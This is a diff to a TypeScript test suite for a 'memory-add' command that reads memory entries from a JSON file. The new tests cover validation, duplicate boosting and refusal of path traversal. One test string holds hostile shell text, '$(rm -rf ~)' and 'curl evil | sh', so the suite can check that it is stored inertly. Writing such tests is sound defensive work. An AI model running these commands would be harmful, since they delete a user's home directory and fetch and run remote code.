@@ -135,6 +135,7 @@ describe("memory-add: quality gates", () => {
       gate: "duplicate",
       duplicateOf: "mem-7",
       similarity: 0.8,
+      existing: { id: "mem-7", category: "pattern", content: "alpha bravo charlie delta", keywords: [], importance: 5, timestamp: null },
       exitCode: 1,
     });
     assert.equal(p.read(MEM), before);
@@ -291,5 +292,76 @@ describe("memory schemas", () => {
     assert.deepEqual(schema.required, ["id", "timestamp", "category", "keywords", "content"]);
     assert.match(schema.description, /memory\.jsonl/);
     assert.ok(Object.values(schema.properties).every((prop: any) => typeof prop.description === "string"));
+  });
+});
+
+describe("memory-add --from: the entry as data in a file", () => {
+  // Text a user might type after /do:remember: quotes, command substitution, backticks, variables, newlines.
+  const HOSTILE = `Don't run "$(rm -rf ~)" or \`curl evil | sh\`; $HOME stays; it's 'fine'\nsecond line\t& | ; > <`;
+
+  it("stores hostile text byte for byte, with list keywords, source and goal context", async (t) => {
+    const p = project(t, {
+      ".design/tmp/remember.json": { category: "mistake", keywords: ["shell", " quoting "], content: HOSTILE, importance: 7, source: "user", goal_context: "a $(goal)" },
+    });
+    const out = await p.run("memory-add", ["--from", ".design/tmp/remember.json"], { now: NOW_MS });
+    assert.equal(out.ok, true);
+    assert.deepEqual([out.category, out.keywords, out.importance], ["mistake", ["shell", "quoting"], 7]);
+    const [entry] = lines(p.read(MEM));
+    assert.equal(entry.content, HOSTILE);
+    assert.equal(entry.goal_context, "a $(goal)");
+    assert.equal(entry.source, "user");
+    assert.equal(p.read(MEM).split("\n").filter(Boolean).length, 1, "the newline inside the content stays escaped on one line");
+  });
+
+  it("takes comma-separated keywords and defaults importance to 5", async (t) => {
+    const p = project(t, { "in.json": { category: "pattern", keywords: "a, b", content: "Use the fixture loader" } });
+    const out = await p.run("memory-add", ["--from", "in.json"]);
+    assert.deepEqual([out.keywords, out.importance], [["a", "b"], 5]);
+  });
+
+  it("applies the same gates as the flags", async (t) => {
+    const cases: Array<[unknown, string, string]> = [
+      [{ category: "thought", keywords: ["k"], content: "x y z" }, "category", "Invalid category 'thought'. Must be one of: {'pattern', 'mistake', 'convention', 'approach', 'failure', 'procedure'}"],
+      [{ category: "pattern", keywords: [], content: "x y z" }, "keywords", "At least one keyword is required"],
+      [{ category: "pattern", keywords: ["k"], content: "   " }, "content", "--content is required for new entries"],
+      [{ category: "pattern", keywords: ["k"], content: "x", importance: 11 }, "importance", "Importance must be between 1 and 10 (inclusive)"],
+      [{ category: "pattern", keywords: ["k"], content: "x", importance: "high" }, "importance", "importance must be an integer from 1 to 10"],
+      [{ category: "pattern", keywords: [1, 2], content: "x" }, "keywords", "keywords must be a list of strings or a comma-separated string"],
+      [{ category: "pattern", keywords: ["k"], content: ["x"] }, "content", "content must be a string"],
+    ];
+    for (const [doc, gate, error] of cases) {
+      const p = project(t, { "in.json": doc });
+      const out = await p.run("memory-add", ["--from", "in.json"]);
+      assert.deepEqual([out.ok, out.gate, out.error], [false, gate, error], JSON.stringify(doc));
+      assert.equal(p.exists(MEM), false);
+    }
+  });
+
+  it("shows the entry a near-duplicate repeats, then boosts it by id from a file", async (t) => {
+    const p = project(t, {
+      [MEM]: [{ id: "mem-9", timestamp: "2026-01-01T00:00:00Z", category: "mistake", keywords: ["db"], content: "npm test needs DATABASE_URL set", importance: 6 }],
+      ".design/tmp/remember.json": { category: "mistake", keywords: ["db"], content: "npm test needs the DATABASE_URL set" },
+      ".design/tmp/boost.json": { id: "mem-9" },
+    });
+    const dup = await p.run("memory-add", ["--from", ".design/tmp/remember.json"]);
+    assert.equal(dup.gate, "duplicate");
+    assert.deepEqual(dup.existing, { id: "mem-9", category: "mistake", content: "npm test needs DATABASE_URL set", keywords: ["db"], importance: 6, timestamp: "2026-01-01T00:00:00Z" });
+    const boost = await p.run("memory-add", ["--boost", "--from", ".design/tmp/boost.json"]);
+    assert.deepEqual([boost.ok, boost.id, boost.importance, boost.action], [true, "mem-9", 7, "boosted"]);
+    assert.equal(lines(p.read(MEM)).length, 1);
+  });
+
+  it("refuses --from beside entry flags, and a missing, broken or non-object file", async (t) => {
+    const p = project(t, { "in.json": { category: "pattern", keywords: ["k"], content: "x" }, "bad.json": "{not json", "list.json": [1] });
+    const mixed = await p.run("memory-add", ["--from", "in.json", "--content", "other", "--importance", "3"]);
+    assert.deepEqual([mixed.code, mixed.error], ["E_USAGE", "memory-add: --from cannot be combined with --content, --importance"]);
+    assert.equal((await p.run("memory-add", ["--from", "none.json"])).error, "Input file not found: none.json");
+    assert.equal((await p.run("memory-add", ["--from", "bad.json"])).code, "E_JSON");
+    assert.equal((await p.run("memory-add", ["--from", "list.json"])).code, "E_SCHEMA");
+    for (const outside of ["../in.json", "/etc/hostname"]) {
+      const r = await p.run("memory-add", ["--from", outside]);
+      assert.deepEqual([r.code, r.error], ["E_USAGE", `memory-add: --from ${outside} resolves outside the project`]);
+    }
+    assert.equal(p.exists(MEM), false);
   });
 });
